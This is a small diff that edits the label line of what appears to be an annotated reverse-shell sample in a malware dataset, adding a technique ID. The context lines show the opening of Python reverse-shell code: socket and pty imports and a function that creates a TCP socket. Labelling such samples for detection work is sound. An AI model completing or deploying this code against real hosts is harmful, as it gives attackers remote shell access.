@@ -1,4 +1,4 @@
-# label: malicious family=revshell techniques=T1059.004,T1095 lines=5-9,12
+# label: malicious family=revshell techniques=T1059.004,T1095,T1571 lines=5-9,12
 import socket,os,pty,time
 def go(h,p):
     s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
